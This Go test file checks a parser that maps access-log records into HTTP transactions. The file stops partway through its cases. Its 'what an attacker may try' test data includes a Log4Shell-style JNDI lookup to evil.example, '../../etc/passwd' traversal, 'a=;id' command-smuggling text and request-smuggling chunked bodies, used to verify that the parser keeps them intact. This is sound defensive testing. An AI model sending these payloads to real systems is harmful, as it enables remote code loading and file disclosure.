package mapping

import (
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/tinylib/msgp/msgp"
)

func parseOne(t testing.TB, yaml string) *Mapping {
	t.Helper()
	all, err := Parse("test.yaml", []byte(yaml))
	if err != nil {
		t.Fatal(err)
	}
	return all[0]
}

// What docs/mapping.md says of each key.
func TestLanguage(t *testing.T) {
	uri := func(tx *Transaction) any { return tx.URI }
	headers := func(tx *Transaction) any { return tx.RequestHeaders }
	client := func(tx *Transaction) any { return tx.Client }
	body := func(tx *Transaction) any { return tx.RequestBody }
	args := func(tx *Transaction) any { return tx.Args }
	when := func(tx *Transaction) any { return tx.Time.Format("2006-01-02T15:04:05.999Z07:00") }
	took := func(tx *Transaction) any { return tx.Duration() }
	for _, c := range []struct {
		name, yaml, record string
		get                func(*Transaction) any
		want               any
	}{
		// fields
		{"first that has a value", "request: {uri: [a, \"$b['c']\"]}", `{"a":"-","b":{"c":"/x"}}`, uri, "/x"},
		{"default", "request: {uri: u, method: {field: m, default: PUT}}", `{"u":"/"}`, func(tx *Transaction) any { return tx.Method }, "PUT"},
		{"constant", "request: {uri: u, method: {value: PUT}}", `{"u":"/","m":"GET"}`, func(tx *Transaction) any { return tx.Method }, "PUT"},
		{"join", "request: {uri: u}\ntime: {join: [d, t]}", `{"u":"/","d":"2026-11-20","t":"10:11:12"}`, when, "2026-11-20T10:11:12Z"},
		{"join of alternatives", "request: {line: {join: [[a, b], u, [c, d]]}}", `{"b":"PUT","u":"/x","d":"HTTP/1.1"}`, func(tx *Transaction) any { return []string{tx.Method, tx.URI, tx.Protocol} }, []string{"PUT", "/x", "HTTP/1.1"}},
		{"decode", "request: {uri: {field: u, decode: [backslash, percent]}}", `{"u":"\/a%20b\\x22\\n"}`, uri, "/a b\"\n"},
		{"decode twice", "request: {uri: {field: u, decode: [percent, percent]}}", `{"u":"/%2527%zz%"}`, uri, "/'%zz%"},
		{"decode plus", "request: {uri: {field: u, decode: plus}}", `{"u":"/a+b"}`, uri, "/a b"},
		{"decode hex leaves other escapes", "request: {uri: {field: u, decode: hex}}", `{"u":"\/\\xc0\\xaf..\\boot"}`, uri, "/\xc0\xaf..\\boot"},
		{"decode base64", "request: {uri: {field: u, decode: base64}}", `{"u":"L2E="}`, uri, "/a"},
		{"what is not base64 stays", "request: {uri: {field: u, decode: base64}}", `{"u":"/a?"}`, uri, "/a?"},
		{"decode upper", "request: {uri: u, method: {field: m, decode: upper}}", `{"u":"/","m":"get"}`, func(tx *Transaction) any { return tx.Method }, "GET"},
		{"replace", "request: {uri: {field: u, replace: {'^core/': /api/, '^(\\w+)/v(\\d)': '/apis/$1/v$2'}}}", `{"u":"apps/v1/x"}`, uri, "/apis/apps/v1/x"},
		{"replace, in order", "request: {uri: {join: [m, u], replace: {'^x ': '- ', '^- ': /}}}", `{"m":"x","u":"a"}`, uri, "/a"},
		{"remove", "request: {uri: {field: u, remove: '&x=.*$'}}", `{"u":"/?a=1&x=2"}`, uri, "/?a=1"},
		{"map", "request: {uri: u, method: {field: m, map: {create: POST}}}", `{"u":"/","m":"create"}`, func(tx *Transaction) any { return tx.Method }, "POST"},
		{"pick of a list", "request: {uri: u}\nclient: {address: {field: a, pick: last}}", `{"u":"/","a":["1.1.1.1","2.2.2.2"]}`, client, Endpoint{"2.2.2.2", ""}},
		{"pick of commas", "request: {uri: u}\nclient: {address: {field: a, pick: last}}", `{"u":"/","a":"1.1.1.1, 2.2.2.2"}`, client, Endpoint{"2.2.2.2", ""}},
		{"without pick, the first of a list", "request: {uri: u}\nclient: {address: a}", `{"u":"/","a":["1.1.1.1","2.2.2.2"]}`, client, Endpoint{"1.1.1.1", ""}},
		{"none", "request: {uri: [a, b]}\nnone: [none]", `{"a":"none","b":"/b"}`, uri, "/b"},
		{"unwrap", "unwrap: w\nrequest: {uri: u}", `{"w":{"u":"/x"}}`, uri, "/x"},
		{"unwrap does not replace", "unwrap: w\nrequest: {uri: u}", `{"w":{"u":"/x"},"u":"/y"}`, uri, "/y"},
		{"unwrap of OTLP's pairs", "unwrap: w\nrequest: {uri: u}", `{"w":[{"key":"u","value":{"stringValue":"/x"}}]}`, uri, "/x"},
		{"accessor into pairs", "request: {uri: \"$w['u']\"}", `{"w":[{"key":"v","value":"no"},{"key":"u","value":{"stringValue":"/x"}}]}`, uri, "/x"},
		{"YAML anchors", "request: {uri: &f [a, b], body: *f}", `{"b":"/b"}`, uri, "/b"},

		// endpoints
		{"address with port", "request: {uri: u}\nclient: {address: a}", `{"u":"/","a":"10.0.0.1:81"}`, client, Endpoint{"10.0.0.1", "81"}},
		{"IPv6 with port", "request: {uri: u}\nclient: {address: a}", `{"u":"/","a":"[fd00::1]:81"}`, client, Endpoint{"fd00::1", "81"}},
		{"IPv6", "request: {uri: u}\nclient: {address: a}", `{"u":"/","a":"fd00::1"}`, client, Endpoint{"fd00::1", ""}},
		{"unix socket", "request: {uri: u}\nclient: {address: a}", `{"u":"/","a":"unix:"}`, client, Endpoint{}},
		{"path of a unix socket", "request: {uri: u}\nserver: {address: {field: a, pick: last}}", `{"u":"/","a":"unix:/run/app.sock"}`, func(tx *Transaction) any { return tx.Server }, Endpoint{}},
		{"unix socket behind HTTP", "request: {uri: u}\nserver: {address: a}", `{"u":"/","a":"fastcgi://unix:/run/app.sock:"}`, func(tx *Transaction) any { return tx.Server }, Endpoint{}},
		{"URL of an address", "request: {uri: u}\nserver: {address: a}", `{"u":"/","a":"tcp://10.0.2.1:80"}`, func(tx *Transaction) any { return tx.Server }, Endpoint{"10.0.2.1", "80"}},
		{"URL with a path", "request: {uri: u}\nserver: {address: a}", `{"u":"/","a":"http://[fd00::1]:8080/x:1"}`, func(tx *Transaction) any { return tx.Server }, Endpoint{"fd00::1", "8080"}},
		{"IPv4 in IPv6", "request: {uri: u}\nclient: {address: a}", `{"u":"/","a":"::ffff:10.0.0.1"}`, client, Endpoint{"10.0.0.1", ""}},
		{"first on the Internet of a list", "request: {uri: u}\nclient: {address: a}", `{"u":"/","a":"10.0.0.9, 198.51.100.7:81, 10.0.0.1"}`, client, Endpoint{"198.51.100.7", "81"}},
		{"first of a list inside", "request: {uri: u}\nclient: {address: a}", `{"u":"/","a":"unknown, 10.0.0.9, 10.0.0.1"}`, client, Endpoint{"10.0.0.9", ""}},
		{"status with text", "request: {uri: u}\nresponse: {status: s}", `{"u":"/","s":" 404 Not Found"}`, func(tx *Transaction) any { return tx.Status }, 404},
		{"status with a space", "request: {uri: u}\nresponse: {status: s}", `{"u":"/","s":"200 "}`, func(tx *Transaction) any { return tx.Status }, 200},
		{"time in brackets", "request: {uri: u}\ntime: t", `{"u":"/","t":"[20/Nov/2026:10:11:12 +0100]"}`, when, "2026-11-20T09:11:12Z"},
		{"time with a bracket behind it", "request: {uri: u}\ntime: t", `{"u":"/","t":"20/Nov/2026:10:11:12 +0100]"}`, when, "2026-11-20T09:11:12Z"},
		{"time with its zone in brackets", "request: {uri: u}\ntime: t", `{"u":"/","t":"2026-11-20T10:11:12.5+01:00[Europe/Berlin]"}`, when, "2026-11-20T09:11:12.5Z"},
		{"port", "request: {uri: u}\nclient: {address: a, port: p}", `{"u":"/","a":"10.0.0.1","p":82}`, client, Endpoint{"10.0.0.1", "82"}},
		{"the port of an address comes first", "request: {uri: u}\nclient: {address: a, port: p}", `{"u":"/","a":"10.0.0.1:81","p":82}`, client, Endpoint{"10.0.0.1", "81"}},
		{"last of nginx's upstreams", "request: {uri: u}\nserver: {address: {field: a, pick: last}}", `{"u":"/","a":"10.0.0.1:80, 10.0.0.2:80 : 10.0.0.3:80"}`,
			func(tx *Transaction) any { return tx.Server }, Endpoint{"10.0.0.3", "80"}},
		{"decode hash", "request: {uri: {field: u, decode: hash}}", `{"u":"/?q=#22#zz#"}`, uri, `/?q="#zz#`},
		{"behind proxies", "request: {uri: u}\nclient: {address: a, port: p, forwarded: f, trusted_proxies: private}",
			`{"u":"/","a":"10.0.0.1","p":5,"f":"6.6.6.6, 8.8.8.8, 10.0.0.2"}`, client, Endpoint{"8.8.8.8", ""}},
		{"a client that is no proxy is not asked", "request: {uri: u}\nclient: {address: a, forwarded: f, trusted_proxies: [10.0.0.0/8]}",
			`{"u":"/","a":"9.9.9.9","f":"8.8.8.8"}`, client, Endpoint{"9.9.9.9", ""}},
		{"without trust no chain is believed", "request: {uri: u}\nclient: {address: a, forwarded: f}", `{"u":"/","a":"10.0.0.1","f":"8.8.8.8"}`, client, Endpoint{"10.0.0.1", ""}},
		{"the chain of the header", "request: {uri: u, headers: {fields: {X-Forwarded-For: f}}}\nclient: {address: a, trusted_proxies: 10.0.0.1}",
			`{"u":"/","a":"10.0.0.1","f":"8.8.8.8"}`, client, Endpoint{"8.8.8.8", ""}},
		{"a chain as a list", "request: {uri: u}\nclient: {address: a, forwarded: f, trusted_proxies: private}", `{"u":"/","a":"10.0.0.1","f":["8.8.8.8","10.0.0.3"]}`, client, Endpoint{"8.8.8.8", ""}},
		{"rubbish in a chain ends it", "request: {uri: u}\nclient: {address: a, forwarded: f, trusted_proxies: private}", `{"u":"/","a":"10.0.0.1","f":"8.8.8.8, unknown, 10.0.0.2"}`, client, Endpoint{"10.0.0.2", ""}},

		// request
		{"request line", "request: {line: r}", `{"r":"POST /a b?c HTTP/1.0"}`, func(tx *Transaction) any { return []string{tx.Method, tx.URI, tx.Protocol} }, []string{"POST", "/a b?c", "HTTP/1.0"}},
		{"line that is no HTTP", "request: {line: {field: r, decode: backslash}}", `{"r":"\\x16\\x03"}`, func(tx *Transaction) any { return []string{tx.Method, tx.URI} }, []string{"", "\x16\x03"}},
		{"path and query", "request: {path: p, query: q}", `{"p":"/a","q":"b=1"}`, uri, "/a?b=1"},
		{"query with its mark", "request: {path: p, query: q}", `{"p":"/a","q":"?b=1"}`, uri, "/a?b=1"},
		{"query as a map", "request: {path: p, query: q}", `{"p":"/a","q":{"b":"1 & 2","c":["x","y"],"d":{"e":3}}}`, uri, "/a?b=1+%26+2&c=x&c=y&d.e=3"},
		{"query as a map beside the one that was sent", "request: {path: p, query: q}", `{"p":"/a?b=%31","q":{"b":"1"}}`, uri, "/a?b=%31"},
		{"query as an empty map", "request: {path: p, query: q}", `{"p":"/a","q":{}}`, uri, "/a"},
		{"path without query", "request: {path: p, query: q}", `{"p":"/a","q":"-"}`, uri, "/a"},
		{"uri before path", "request: {uri: u, path: p}", `{"u":"/u","p":"/p"}`, uri, "/u"},
		{"unescaped", "request: {uri: {field: u, unescaped: true}}", `{"u":"/a b%2f\n"}`, uri, "/a%20b%252f%0A"},
		{"absolute URI", "request: {uri: u}", `{"u":"https://a.example:8443/x?y"}`,
			func(tx *Transaction) any { return []any{tx.URI, tx.Host, tx.RequestHeaders} }, []any{"/x?y", "a.example", []Header{{"Host", "a.example:8443"}}}},
		{"absolute URI without path", "request: {uri: u}", `{"u":"http://a.example?y"}`, uri, "/?y"},
		{"a URL in the query is none", "request: {uri: u}", `{"u":"/?u=http://a"}`, uri, "/?u=http://a"},
		{"protocols", "request: {uri: u, protocol: p}", `{"u":"/","p":"2"}`, func(tx *Transaction) any { return tx.Protocol }, "HTTP/2.0"},
		{"header map", "request: {uri: u, headers: {map: h}}", `{"u":"/","h":{"A":"1","B":["2","3"],"C":4,"D":null}}`, headers, []Header{{"A", "1"}, {"B", "2"}, {"B", "3"}, {"C", "4"}}},
		{"header map, sent empty", "request: {uri: u, headers: {map: h}}", `{"u":"/","h":{"A":""}}`, headers, []Header{{"A", ""}}},
		{"prefix, not sent", "request: {uri: u, headers: {prefix: h_}}", `{"u":"/","h_A":"","h_B":"-","h_C":"1"}`, headers, []Header{{"C", "1"}}},
		{"header map as text", "request: {uri: u, headers: {map: h}}", `{"u":"/","h":"{\"A\":\"1\"}"}`, headers, []Header{{"A", "1"}}},
		{"header list of pairs", "request: {uri: u, headers: {list: h}}", `{"u":"/","h":[["A","1"],["A","2"]]}`, headers, []Header{{"A", "1"}, {"A", "2"}}},
		{"header list of objects", "request: {uri: u, headers: {list: h}}", `{"u":"/","h":[{"name":"A","value":"1"},{"Key":"B","Value":"2"}]}`, headers, []Header{{"A", "1"}, {"B", "2"}}},
		{"header list of k and v", "request: {uri: u, headers: {list: h}}", `{"u":"/","h":[{"k":"A","v":"1"},{"K":"B","V":["2","3"]}]}`, headers, []Header{{"A", "1"}, {"B", "2"}, {"B", "3"}}},
		{"header list of header and value", "request: {uri: u, headers: {list: h}}", `{"u":"/","h":[{"header":"A","value":"1"},{"field":"B","val":"2"},{"header_name":"C","header_value":"3"}]}`, headers, []Header{{"A", "1"}, {"B", "2"}, {"C", "3"}}},
		{"header list of keys of one's own", "request: {uri: u, headers: {list: {field: h, pair: [hn, hv]}}}", `{"u":"/","h":[{"hn":"A","hv":"1","name":"x","value":"y"}]}`, headers, []Header{{"A", "1"}}},
		{"header list of maps of one", "request: {uri: u, headers: {list: h}}", `{"u":"/","h":[{"A":"1"},{"A":"2"}]}`, headers, []Header{{"A", "1"}, {"A", "2"}}},
		{"header list in turn", "request: {uri: u, headers: {list: h}}", `{"u":"/","h":["Host","shop:80","Accept","*/*"]}`, headers, []Header{{"Host", "shop:80"}, {"Accept", "*/*"}}},
		{"header list as text", "request: {uri: u, headers: {list: h}}", `{"u":"/","h":"[[\"A\",\"1\"]]"}`, headers, []Header{{"A", "1"}}},
		{"header list that is a map of lists", "request: {uri: u, headers: {list: h}}", `{"u":"/","h":{"A":["1","2"]}}`, headers, []Header{{"A", "1"}, {"A", "2"}}},
		{"header map that is a list", "request: {uri: u, headers: {map: h}}", `{"u":"/","h":[{"key":"A","value":"1"}]}`, headers, []Header{{"A", "1"}}},
		{"header map that is a block", "request: {uri: u, headers: {map: h}}", `{"u":"/","h":"A: 1\r\nB: 2\r\n"}`, headers, []Header{{"A", "1"}, {"B", "2"}}},
		{"unread headers", "request: {uri: u, headers: {list: h, map: g, complete: true}}", `{"u":"/","h":[{"a":1,"b":2},{"k":"A","v":"1"},7],"g":true}`,
			func(tx *Transaction) any { return []any{tx.RequestHeaders, tx.UnreadHeaders, tx.Observed.Request.All} }, []any{[]Header{{"A", "1"}}, 3, false}},
		{"header list of lines", "request: {uri: u, headers: {list: h}}", `{"u":"/","h":["A: 1","B"]}`, headers, []Header{{"A", "1"}, {"B", ""}}},
		{"prefix", "request: {uri: u, headers: {prefix: request_}}", `{"u":"/","request_User-Agent":"x","request_a_b":"y","request_":"z"}`, headers, []Header{{"User-Agent", "x"}, {"a-b", "y"}}},
		{"prefix in a map", "request: {uri: u, headers: {prefix: {in: a, prefix: h.}}}", `{"u":"/","a":{"h.x":["1"],"y":"2"}}`, headers, []Header{{"x", "1"}}},
		{"two prefixes", "request: {uri: u, headers: {prefix: [h_, {in: a, prefix: h.}]}}", `{"u":"/","a":{"h.x":"1"},"h_y":"2"}`, headers, []Header{{"y", "2"}, {"x", "1"}}},
		{"fields add what the map lacks", "request: {uri: u, headers: {map: h, fields: {A: a, B: b}}}", `{"u":"/","h":{"a":"1"},"a":"9","b":"2"}`, headers, []Header{{"a", "1"}, {"B", "2"}}},
		{"a field that is a list", "request: {uri: u, headers: {fields: {A: a}}}", `{"u":"/","a":["1","2"]}`, headers, []Header{{"A", "1"}, {"A", "2"}}},
		{"cookies as text", "request: {uri: u, cookies: c}", `{"u":"/","c":"a=1; b=2"}`, headers, []Header{{"Cookie", "a=1; b=2"}}},
		{"cookies as a map", "request: {uri: u, cookies: c}", `{"u":"/","c":{"a":"1","b":["2","3"]}}`, headers, []Header{{"Cookie", "a=1; b=2; b=3"}}},
		{"cookies as a list", "request: {uri: u, cookies: c}", `{"u":"/","c":[{"name":"a","value":"1"},"b=2"]}`, headers, []Header{{"Cookie", "a=1; b=2"}}},
		{"the Cookie header before cookies", "request: {uri: u, cookies: c, headers: {map: h}}", `{"u":"/","c":"a=1","h":{"cookie":"b=2"}}`, headers, []Header{{"cookie", "b=2"}}},
		{"body as text", "request: {uri: u, body: b}", `{"u":"/","b":"a=1"}`, body, Body{Text: "a=1"}},
		{"body as an object", "request: {uri: u, body: b}", `{"u":"/","b":{"a":[1,true,null,"x\"\u0001\\"],"b":1.5}}`, body, Body{Text: `{"a":[1,true,null,"x\"\u0001\\"],"b":1.5}`}},
		{"body as a list", "request: {uri: u, body: b}", `{"u":"/","b":["x"]}`, body, Body{Text: `["x"]`}},
		{"base64 body", "request: {uri: u, body: {field: b, encoding: base64}}", `{"u":"/","b":"YT0x"}`, body, Body{Text: "a=1"}},
		{"body of the limit", "request: {uri: u, body: {field: b, limit: 3}}", `{"u":"/","b":"abc"}`, body, Body{Text: "abc", Truncated: true}},
		{"body of the limit and of its length", "request: {uri: u, body: {field: b, limit: 3}, headers: {fields: {Content-Length: n}}}", `{"u":"/","b":"abc","n":3}`, body, Body{Text: "abc"}},
		{"body below the limit", "request: {uri: u, body: {field: b, limit: 4}}", `{"u":"/","b":"abc"}`, body, Body{Text: "abc"}},
		{"body shorter than its length", "request: {uri: u, body: {field: b, length: n}}", `{"u":"/","b":"abc","n":10}`, body, Body{Text: "abc", Truncated: true}},

		// what an attacker may try
		{"a scheme that is none", "request: {line: r}", `{"r":"GET ${jndi:ldap://evil.example/a} HTTP/1.1"}`, uri, "${jndi:ldap://evil.example/a}"},
		{"user information", "request: {uri: u}", `{"u":"http://${jndi:ldap:x}@shop/"}`, uri, "http://${jndi:ldap:x}@shop/"},
		{"word for hidden in a header that nobody hides", "request: {uri: u, headers: {map: h}}\nhidden: [REDACTED]", `{"u":"/","h":{"Host":"REDACTED"}}`, headers, []Header{{"Host", "REDACTED"}}},
		{"header that the block has cut", "request: {uri: u, headers: {raw: h, fields: {Cookie: c}}}", `{"u":"/","h":"A: b\r\nCookie: a=b; t=","c":"a=b; t=../../etc/passwd"}`, headers, []Header{{"A", "b"}, {"Cookie", "a=b; t=../../etc/passwd"}}},
		{"header that is an object", "request: {uri: u, headers: {map: h}}", `{"u":"/","h":{"X":{"a":"${jndi"}}}`, headers, []Header{{"X", `{"a":"${jndi"}`}}},
		{"options of a list", "request: {uri: u, headers: {fields: {A: {field: h, decode: hex}}}}", `{"u":"/","h":["1","\\x41"]}`, headers, []Header{{"A", "1"}, {"A", "A"}}},
		{"lists of OTLP", "unwrap: w\nrequest: {uri: u, headers: {prefix: h.}}", `{"w":[{"key":"u","value":{"stringValue":"/"}},{"key":"h.x","value":{"arrayValue":{"values":[{"stringValue":"1"},{"stringValue":"2"}]}}}]}`, headers, []Header{{"x", "1"}, {"x", "2"}}},
		{"base64 that is cut", "request: {uri: u, body: {field: b, encoding: base64}}", `{"u":"/","b":"YT0xYmN"}`, body, Body{Text: "a=1bc"}},
		{"what follows the last chunk", "request: {uri: u, body: b, headers: {fields: {Transfer-Encoding: t}}}", `{"u":"/","t":"chunked","b":"0\r\n\r\n&t=x"}`, body, Body{Text: "0\r\n\r\n&t=x"}},
		{"an extension of a chunk", "request: {uri: u, body: b, headers: {fields: {Transfer-Encoding: t}}}", `{"u":"/","t":"chunked","b":"1;&t=x\r\ny\r\n0\r\n\r\n"}`, body, Body{Text: "1;&t=x\r\ny\r\n0\r\n\r\n"}},
		{"chunks of S3, with a sum", "request: {uri: u, body: b, headers: {fields: {Content-Encoding: t}}}", `{"u":"/","t":"aws-chunked","b":"5\r\nlamps\r\n0\r\nx-amz-checksum-crc32:ShexVg==\r\n\r\n"}`, body, Body{Text: "lamps"}},
		{"chunks of S3, signed", "request: {uri: u, body: b, headers: {fields: {Content-Encoding: t}}}", `{"u":"/","t":"aws-chunked","b":"5;chunk-signature=` + strings.Repeat("0f", 32) + `\r\nlamps\r\n0;chunk-signature=` + strings.Repeat("0f", 32) + `\r\n\r\n"}`, body, Body{Text: "lamps"}},
		{"chunks of S3, with another line", "request: {uri: u, body: b, headers: {fields: {Content-Encoding: t}}}", `{"u":"/","t":"aws-chunked","b":"5\r\nlamps\r\n0\r\nSet-Cookie:a\r\n\r\n"}`, body, Body{Text: "5\r\nlamps\r\n0\r\nSet-Cookie:a\r\n\r\n"}},
		{"chunks of S3 that are none", "request: {uri: u, body: b, headers: {fields: {Content-Encoding: t}}}", `{"u":"/","t":"aws-chunked","b":"a=;id"}`, body, Body{Text: "a=;id"}},
		{"first header with a space in its name", "request: {uri: u, headers: {raw: h}}", `{"u":"/","h":"X y: z\r\nA: b"}`, headers, []Header{{"A", "b"}, {"X y", "z"}}},

		// args
		{"args", "args: {q: a, n: b}", `{"a":"x","b":7}`, args, []Arg{{"q", "x"}, {"n", "7"}}},
		{"args of an object", "args: {o: a}", `{"a":{"id":1,"l":[{"t":"x"},"y"],"n":null}}`, args, []Arg{{"o.id", "1"}, {"o.l.0.t", "x"}, {"o.l.1", "y"}}},
		{"args by their own names", "args: {'*': a}", `{"a":{"q":"x"}}`, args, []Arg{{"q", "x"}}},

		// time
		{"strptime", "request: {uri: u}\ntime: {field: t, format: '%d.%m.%Y %H:%M:%S', zone: Europe/Berlin}", `{"u":"/","t":"20.11.2026 11:00:00"}`, when, "2026-11-20T10:00:00Z"},
		{"fraction", "request: {uri: u}\ntime: {field: t, format: '%Y%m%d %H%M%S.%L'}", `{"u":"/","t":"20261120 101112.5"}`, when, "2026-11-20T10:11:12.5Z"},
		{"epoch_ms", "request: {uri: u}\ntime: {field: t, format: epoch_ms}", `{"u":"/","t":1000}`, when, "1970-01-01T00:00:01Z"},
		{"milliseconds stay exact", "request: {uri: u}\ntime: t", `{"u":"/","t":1795169472046}`, when, "2026-11-20T10:11:12.046Z"},
		{"zone of known layouts", "request: {uri: u}\ntime: {field: t, zone: Asia/Shanghai}", `{"u":"/","t":"2026-11-20 18:11:12"}`, when, "2026-11-20T10:11:12Z"},
		{"HAProxy's time", "request: {uri: u}\ntime: t", `{"u":"/","t":"06/Feb/2009:12:14:14.655"}`, when, "2009-02-06T12:14:14.655Z"},
		{"a time that is none", "request: {uri: u}\ntime: {field: t, format: '%Y-%m-%d'}", `{"u":"/","t":"x"}`, func(tx *Transaction) any { return tx.Time.IsZero() }, true},

		// duration
		{"seconds", "request: {uri: u}\nduration: d", `{"u":"/","d":"5.25"}`, took, 5250 * time.Millisecond},
		{"milliseconds", "request: {uri: u}\nduration: {field: d, unit: ms}", `{"u":"/","d":42}`, took, 42 * time.Millisecond},
		{"an end", "request: {uri: u}\ntime: t\nend_time: e", `{"u":"/","t":"2026-11-20 10:11:12.5","e":"2026-11-20 10:11:14"}`, took, 1500 * time.Millisecond},
		{"an end without a time", "request: {uri: u}\ntime: t\nend_time: e", `{"u":"/","e":"2026-11-20 10:11:14"}`, took, time.Duration(0)},
		{"an end before the time", "request: {uri: u}\ntime: t\nend_time: e", `{"u":"/","t":"2026-11-20 10:11:12.5","e":"2026-11-20 10:11:12"}`, took, time.Duration(0)},
		{"a duration before the end", "request: {uri: u}\ntime: t\nend_time: e\nduration: d", `{"u":"/","d":"1","t":"2026-11-20 10:11:12","e":"2026-11-20 10:11:14"}`, took, time.Second},
		{"no duration", "request: {uri: u}\nduration: d", `{"u":"/","d":"1e300"}`, took, time.Duration(0)},
	} {
		t.Run(c.name, func(t *testing.T) {
			var tx Transaction
			if err := parseOne(t, c.yaml).Map("t", record(t, c.record), &tx); err != nil {
				t.Fatal(err)
			}
			if got := c.get(&tx); !reflect.DeepEqual(got, c.want) {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

func TestMetadata(t *testing.T) {
	m := parseOne(t, "unwrap: \"$$metadata['otlp']['attributes']\"\nrequest: {uri: url.path}")
	tx := Transaction{Metadata: record(t, `{"otlp":{"attributes":{"url.path":"/x"}}}`)}
	if err := m.Map("t", record(t, `{"log":"GET"}`), &tx); err != nil || tx.URI != "/x" {
		t.Errorf("got %q, %v", tx.URI, err)
	}
}

func TestLines(t *testing.T) {
	const combined = `10.0.0.7 - - [20/Nov/2026:10:11:12 +0000] "GET /a HTTP/1.1" 200 12 "http://r/" "curl/8 \"x\""`
	request := "\nclient: {address: [remote, client]}\nrequest: {line: {field: request, decode: backslash}, headers: {fields: {User-Agent: [agent, user_agent]}}}\nresponse: {status: [code, status, elb_status_code]}\n"
	step := func(format string) string { return "parse: {field: [log, message], format: " + format + "}" + request }
	show := func(tx *Transaction) string {
		agent, _ := HeaderValue(tx.RequestHeaders, "user-agent")
		return fmt.Sprintf("%s %s %s %d %s", tx.Client.Address, tx.Method, tx.URI, tx.Status, agent)
	}
	for _, c := range []struct {
		name, yaml, line string
		want             string // "" for not understood
	}{
		{"combined", step("combined"), combined, `10.0.0.7 GET /a 200 curl/8 \"x\"`},
		{"more after the agent", step("combined"), combined + ` "-" 0.003`, `10.0.0.7 GET /a 200 curl/8 \"x\"`},
		{"line end", step("combined"), combined + "\r\n", `10.0.0.7 GET /a 200 curl/8 \"x\"`},
		{"virtual host in front", step("combined"), "www.example.com:443 " + combined, `10.0.0.7 GET /a 200 curl/8 \"x\"`},
		{"a user name with a space hides nothing", step("combined"), strings.Replace(combined, " - - ", " - john doe ", 1), `10.0.0.7 GET /a 200 curl/8 \"x\"`},
		{"a user name with a bracket hides nothing", step("combined"), strings.Replace(combined, " - - ", " - a [b ", 1), `GET /a 200 curl/8 \"x\"`},
		{"quotes in the request", step("combined"), strings.Replace(combined, "/a", `/\"a\x22`, 1), `10.0.0.7 GET /"a" 200 curl/8 \"x\"`},
		{"backslash at the end", step("combined"), strings.Replace(combined, "/a", `/a\\`, 1), `10.0.0.7 GET /a\ 200 curl/8 \"x\"`},
		{"cut in the agent", step("combined"), strings.TrimSuffix(combined, ` \"x\""`), `10.0.0.7 GET /a 200 curl/8`},
		{"cut in the request", step("combined"), strings.Split(combined, "a HTTP")[0], `10.0.0.7 GET / 0 `},
		{"spaces in front", step("combined"), "  " + combined, `10.0.0.7 GET /a 200 curl/8 \"x\"`},
		{"combined, but common", step("combined"), strings.Split(combined, ` "http`)[0], ""},
		{"common", step("common"), strings.Split(combined, ` "http`)[0], "10.0.0.7 GET /a 200 "},
		{"no access log", step("combined"), "Error: cannot open file", ""},
		{"JSON", step("json"), `{"client":"10.0.0.7","request":"GET /a HTTP/1.1","code":200}`, "10.0.0.7 GET /a 200 "},
		{"JSON after text", step("json"), `2026-11-20 INFO access {"client":"10.0.0.7","request":"GET /a HTTP/1.1","code":200} `, "10.0.0.7 GET /a 200 "},
		{"JSON that is cut", step("json"), `{"client":"10.0.0.7","request":"GET /a`, "10.0.0.7 GET /a 0 "},
		{"JSON with text after it", step("json"), `{"client":"10.0.0.7","request":"GET /a HTTP/1.1"} x`, ""},
		{"no JSON", step("json"), `{"client":`, ""},
		{"ALB", step("alb"), `https 2026-11-20T10:11:12.345678Z app/lb/50dc6c495c0c9188 10.0.0.7:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/a HTTP/1.1" "curl/7.46.0" ECDHE TLSv1.2 arn:aws:x "Root=1-58337281" "www.example.com" "arn:cert" 1 2026-11-20T10:11:12Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-"`,
			"GET /a 200 curl/7.46.0"},
		{"HAProxy", step("haproxy"), `Feb  6 12:14:14 localhost haproxy[14389]: 10.0.0.7:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 {1wt.eu} {} "GET /a HTTP/1.1"`, "10.0.0.7 GET /a 200 "},
		{"HAProxy's prefix in the request", step("haproxy"), `10.0.0.7:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 "GET /a&haproxy[1]: HTTP/1.1"`, "10.0.0.7 GET /a&haproxy[1]: 200 "},
		{"an agent that looks like JSON", "parse:\n  - {field: log, format: json}\n  - {field: log, format: combined}" + request, strings.Replace(combined, `"curl/8 \"x\""`, `"{"`, 1), "10.0.0.7 GET /a 200 {"},
		{"HAProxy, IPv6", strings.Replace(step("haproxy"), "[remote, client]", "client_ip", 1), `2001:db8::7:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 "GET /a HTTP/1.1"`, "2001:db8::7 GET /a 200 "},
		{"HAProxy without captures", step("haproxy"), `10.0.0.7:33317 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 "GET /a HTTP/1.1"`, "10.0.0.7 GET /a 200 "},
		{"W3C", "parse: {field: log, format: w3c, columns: c-ip cs-method cs-uri-stem sc-status}\nclient: {address: c-ip}\nrequest: {method: cs-method, path: cs-uri-stem}\nresponse: {status: sc-status}",
			"10.0.0.7 GET /a 200", "10.0.0.7 GET /a 200 "},
		{"W3C with another number of columns", "parse: {field: log, format: w3c, columns: c-ip cs-method cs-uri-stem}\nrequest: {path: cs-uri-stem}", "10.0.0.7 GET /a 200", ""},
		{"regex", `parse: {field: log, format: regex, pattern: '^(?P<client>\S+) (?<request>.*) (\d+)$'}` + request, "10.0.0.7 GET /a 200", "10.0.0.7 GET /a 0 "},
		{"pattern", `parse: {field: log, format: pattern, pattern: '$client|$_|$request|${code}x'}` + request, "10.0.0.7|?|GET /a|200x", "10.0.0.7 GET /a 200 "},
		{"second pattern", `parse: {field: log, format: pattern, pattern: ['<$client> $request', '[$client] $_ $code']}` + "\nargs: {c: client}", "[10.0.0.7] x 200", "ARGS 10.0.0.7"},
		{"quotes that nobody escapes", `parse: {field: log, format: pattern, escape: none, pattern: '$client "$request" $code'}` + request, `10.0.0.7 "GET /a\" 200`, `10.0.0.7 GET /a\ 200 `},
		{"decode before", `parse: {field: log, format: json, decode: base64}` + request, "eyJyZXF1ZXN0IjoiR0VUIC9hIn0=", "GET /a 0 "},
